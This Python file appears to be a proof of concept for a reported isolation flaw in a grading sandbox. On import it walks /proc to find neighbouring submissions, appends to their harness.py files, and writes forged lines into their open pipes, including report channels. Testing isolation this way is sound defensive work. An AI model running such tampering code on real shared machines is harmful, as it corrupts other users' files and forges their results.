# Issue 17's attack: walks /proc at import for the processes of submissions graded beside this
# one, reads each one's folder from /proc/PID/cwd, reads and changes its harness.py, and writes
# a forged line into every pipe it holds open (its report channel among them). Pipes only: a
# file a neighbour holds open may be the interpreter's own (a .pth file read at start-up), and
# where the spy can reach it, a forged line there would break Python on the grading machine. It looks for a
# few seconds, so that it overlaps the grading of its neighbours, and prints what it reached.
import os as _os
import stat as _stat
import time as _time


def _spy():
    mine = _os.getcwd()
    seen, read, changed, written = set(), 0, 0, 0
    deadline = _time.monotonic() + 3
    while not seen and _time.monotonic() < deadline:
        for entry in _os.listdir("/proc"):
            try:
                folder = _os.readlink(f"/proc/{entry}/cwd")
            except OSError:
                continue
            # Only the scratch folders of its own batch (.../box/s-... beside its own): never
            # anything else on the machine, such as another batch graded at the same time.
            if folder == mine or _os.path.dirname(folder) != _os.path.dirname(mine) or \
                    not _os.path.basename(folder).startswith("s-"):
                continue
            seen.add(entry)
            target = _os.path.join(folder, "harness.py")
            try:
                with open(target, "rb") as handle:
                    read += bool(handle.read())
                with open(target, "a", encoding="utf-8") as handle:
                    handle.write("\n# changed by a classmate\n")
                changed += 1
            except OSError:
                pass
            try:
                held = _os.listdir(f"/proc/{entry}/fd")
            except OSError:
                held = []
            for fd in held:
                try:
                    if not _stat.S_ISFIFO(_os.stat(f"/proc/{entry}/fd/{fd}").st_mode):
                        continue
                    out = _os.open(f"/proc/{entry}/fd/{fd}", _os.O_WRONLY | _os.O_NONBLOCK)
                    _os.write(out, b"forged by a classmate\n")
                    _os.close(out)
                    written += 1
                except OSError:
                    pass
        _time.sleep(0.02)
    print(f"spy: classmates' processes seen: {len(seen)}; their harness.py read: {read}, "
          f"changed: {changed}; their open files written: {written}")


_spy()
